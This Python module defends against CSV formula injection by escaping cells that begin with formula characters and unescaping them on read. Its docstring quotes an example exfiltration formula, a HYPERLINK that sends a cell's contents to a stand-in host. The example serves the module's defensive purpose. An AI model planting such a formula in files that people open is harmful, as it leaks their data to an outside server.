"""Cells of CSV files which spreadsheet programs do not take for formulas.

A note like `=HYPERLINK("http://site/?"&A1)` would run in the program of the person who opens the
file. An apostrophe before it makes it a text. It is removed when the file is read back.

Source: OWASP, "CSV Injection".
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters of formulas; the last four are the wide forms of the first four."""
APOSTROPHE = "'"

CellT = TypeVar("CellT")


def to_cell(value: CellT) -> CellT | str:
    """Return a value for a CSV file; numbers and harmless texts stay."""
    if isinstance(value, str) and _is_formula(value):
        return APOSTROPHE + value
    return value


def from_cell(text: str) -> str:
    """Return the text from which `to_cell` made a cell."""
    if text.startswith(APOSTROPHE) and _is_formula(text):
        return text.removeprefix(APOSTROPHE)
    return text


def _is_formula(text: str) -> bool:
    """Tell whether a text is a formula, maybe with apostrophes of its own before it."""
    return text.lstrip(APOSTROPHE).startswith(FORMULA_STARTS)
